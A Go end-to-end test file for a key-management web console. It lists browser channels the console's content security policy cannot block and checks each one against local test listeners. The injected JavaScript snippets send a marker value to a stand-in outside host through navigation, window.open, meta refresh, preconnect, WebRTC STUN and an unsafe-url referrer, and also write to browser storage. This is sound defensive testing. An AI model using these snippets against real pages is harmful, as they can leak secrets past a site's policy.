package policy

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"keyferry/e2e/proof"
)

// opening is something that no policy of the console refuses. It is written down, and tried, so
// that nobody takes the policy for more than it is; what holds there instead is named beside it.
type opening struct {
	name, what, script, instead string

	page   string // where it is tried; empty means /
	worker bool   // whether in the worker
	not    string // the engine that shows nothing of it here

	// seen says where it is seen, or that it is not.
	seen func(e *elsewhere, w *between) string
}

// Where an opening shows.
func reaches(name string) func(*elsewhere, *between) string {
	return func(e *elsewhere, _ *between) string {
		header, arrived := e.wait(name)
		if !arrived {
			return "nothing"
		}
		return "a request elsewhere, " + map[bool]string{true: "without a Referer", false: "with the address of the page"}[header.Get("Referer") == ""]
	}
}

func passes(parts ...string) func(*elsewhere, *between) string {
	return func(_ *elsewhere, w *between) string {
		if w.saw(5*time.Second, parts...) {
			return "a request to the console"
		}
		return "nothing"
	}
}

func connects(e *elsewhere, _ *between) string {
	return e.counts(&e.connections, "a connection elsewhere")
}

func sends(e *elsewhere, _ *between) string { return e.counts(&e.packets, "packets elsewhere") }

// counts waits for a while until something was counted.
func (e *elsewhere) counts(counter *int, what string) string {
	if !e.news.Await(arrival, nil, func() bool {
		e.mu.Lock()
		defer e.mu.Unlock()
		return *counter > 0
	}) {
		return "nothing"
	}
	return what
}

// pageHolds is what a script that came to run in a page could find there.
const pageHolds = "a page never holds the key, but a component or a passphrase while it is typed"

// openings are tried in order; {silent} is an address that counts connections, {udp} one that
// counts packets.
var openings = []opening{
	{name: "o-location", what: "the page goes to another address", script: `location.href = elsewhere + ".html?0123"`, seen: reaches("o-location"),
		instead: "the person sees the page go; " + pageHolds},
	{name: "o-link", what: "a link in a new tab", script: `const a = element("a", {href: elsewhere + ".html?0123", target: "_blank", rel: "noopener"}); put(a); a.click(); await pause(200)`, seen: reaches("o-link"),
		instead: "the person sees the tab; it has no way back to the page"},
	{name: "o-refresh", what: "meta refresh", script: `document.head.append(element("meta", {httpEquiv: "refresh", content: "0; url=" + elsewhere + ".html"}))`, seen: reaches("o-refresh"),
		instead: "the person sees the page go"},
	{name: "o-window", what: "a new window", script: `window.open(elsewhere + ".html?0123")`, seen: reaches("o-window"),
		instead: "the person sees the window; it has no way back to the page"},
	{name: "o-preconnect", what: "link for connecting ahead", script: `document.head.append(element("link", {rel: "preconnect", href: "{silent}"}))`, seen: connects, not: "Chromium",
		instead: pageHolds + "; a connection carries a host name and no more"},
	{name: "o-own", what: "a request of the page to another path of the console", script: `await fetch(own + ".txt?0123")`, seen: passes("/healthz/reached/o-own.txt?0123"),
		instead: pageHolds + "; the console logs routes and not addresses"},
	{name: "o-storage", what: "storage of the browser", script: `localStorage.setItem("attack", "0123"); document.cookie = "attack=0123"; attackRan = localStorage.getItem("attack") === "0123"; localStorage.clear()`,
		instead: pageHolds + "; the tests search all storage for it"},
	{name: "o-webrtc", what: "WebRTC", script: `const c = new RTCPeerConnection({iceServers: [{urls: "stun:{udp}"}]}); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); await pause(2000); c.close()`, seen: sends, not: "Firefox",
		instead: pageHolds + "; a worker has no WebRTC"},
	{name: "o-referrer", page: "/en/?KeyId=key-hzz1", what: "meta element that lets the address of the page go along", script: `document.head.append(element("meta", {name: "referrer", content: "unsafe-url"})); await pause(50); location.href = elsewhere + ".html"`, seen: reaches("o-referrer"),
		instead: "the address of a page holds the id of a CMK at most"},
	{name: "o-policy", page: "/en/proof", what: "the Trusted Types policy, on a page whose script does not take it", script: `trustedTypes.createPolicy("keyferry", {createScriptURL: (s) => s}); attackRan = true`,
		instead: "these pages have no secret; a policy still starts nothing but files of the console"},

	{name: "o-w-module", worker: true, what: "fetch of a module with a query, in the worker", script: `await fetch(module + "?0123")`, seen: passes("/wasm/keyferry.wasm?0123 200"),
		instead: "a policy does not look at queries; an honest console does not log them"},
	{name: "o-w-channel", worker: true, what: "BroadcastChannel, in the worker", script: `new BroadcastChannel("other").postMessage("0123"); attackRan = true`,
		instead: "it reaches pages of the console, which have a policy themselves"},
	{name: "o-w-database", worker: true, what: "IndexedDB, in the worker", script: `await new Promise((done, refused) => { const r = indexedDB.open("attack"); r.onsuccess = () => { r.result.close(); indexedDB.deleteDatabase("attack"); done() }; r.onerror = refused }); attackRan = true`,
		instead: "it stays in the browser; the tests search all storage"},
	{name: "o-w-cache", worker: true, what: "Cache, in the worker", script: `const c = await caches.open("attack"); await c.put("/attack", new Response("0123")); await caches.delete("attack"); attackRan = true`,
		instead: "it stays in the browser; the tests search all storage"},
	{name: "o-w-files", worker: true, what: "the origin's own files, in the worker", script: `const d = await navigator.storage.getDirectory(); await d.getFileHandle("attack", {create: true}); await d.removeEntry("attack"); attackRan = true`,
		instead: "it stays in the browser; the tests search all storage"},
	{name: "o-w-wasm", worker: true, what: "another WebAssembly module, in the worker", script: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); attackRan = true`,
		instead: "the worker's own script fetches its module with integrity"},
}

// departing is the script of an opening that may take the page away, so that nobody waits for its
// end.
const departing = `(() => {
	const element = (name, fields) => Object.assign(document.createElement(name), fields)
	const put = (what) => document.body.append(what)
	const pause = (ms) => new Promise((done) => setTimeout(done, ms))
	const elsewhere = %s, own = %s
	setTimeout(async () => { %s })
	return "begun"
})()`

// tryOpenings tries each on a page of its own, and writes down what was seen.
func tryOpenings(t *testing.T, in workingTab, engine, console string) {
	t.Helper()
	e, way := startElsewhere(t), startBetween(t, console)
	static := staticFolder(t, console)
	s := site{elsewhere: e.address + "/reached/", own: way.address + "/healthz/reached/", engine: engine, page: way.address + "/"}
	var attacks []attack
	for _, o := range openings {
		script := strings.NewReplacer("{silent}", e.silent, "{udp}", e.udp, "module +", quote(way.address+static+"/wasm/keyferry.wasm")+" +").Replace(o.script)
		attacks = append(attacks, attack{name: o.name, what: o.what, script: script})
	}
	var worker tab
	for i, o := range openings {
		var err error
		var came outcome
		switch {
		case o.worker && worker == nil:
			worker = in.work(t, s.page, beginJob, s.scripts(attacks, shortly), func(code string) { way.end("/worker.js", code) })
			fallthrough
		case o.worker:
			came, err = s.try(worker, attacks[i], shortly)
		default:
			page, in := way.address+"/"+strings.TrimPrefix(o.page, "/"), in.fresh(t)
			if err := in.navigate(page); err != nil {
				t.Fatalf("%s: %v", o.name, err)
			}
			if o.seen != nil {
				_, err = in.evaluate(fmt.Sprintf(departing, quote(s.elsewhere+o.name), quote(s.own+o.name), attacks[i].script))
			} else {
				came, err = s.try(in, attacks[i], 2*time.Second)
			}
		}
		if err != nil {
			t.Errorf("%s: %v", o.name, err)
			continue
		}
		seen := map[bool]string{true: "in the browser", false: "nothing"}[came.Ran]
		if o.seen != nil {
			seen = o.seen(e, way)
		}
		if (seen == "nothing") != (o.not == engine) || len(came.Reports) > 0 {
			t.Errorf("%s: %s: %s, reports %v, it met %q", o.name, o.what, seen, came.Reports, came.Threw)
		}
		proof.Findings.Add(proof.Findings.About("What no policy refuses", "what", "engine", "where it shows", "what holds instead"),
			o.what, engine, seen, o.instead)
	}
}
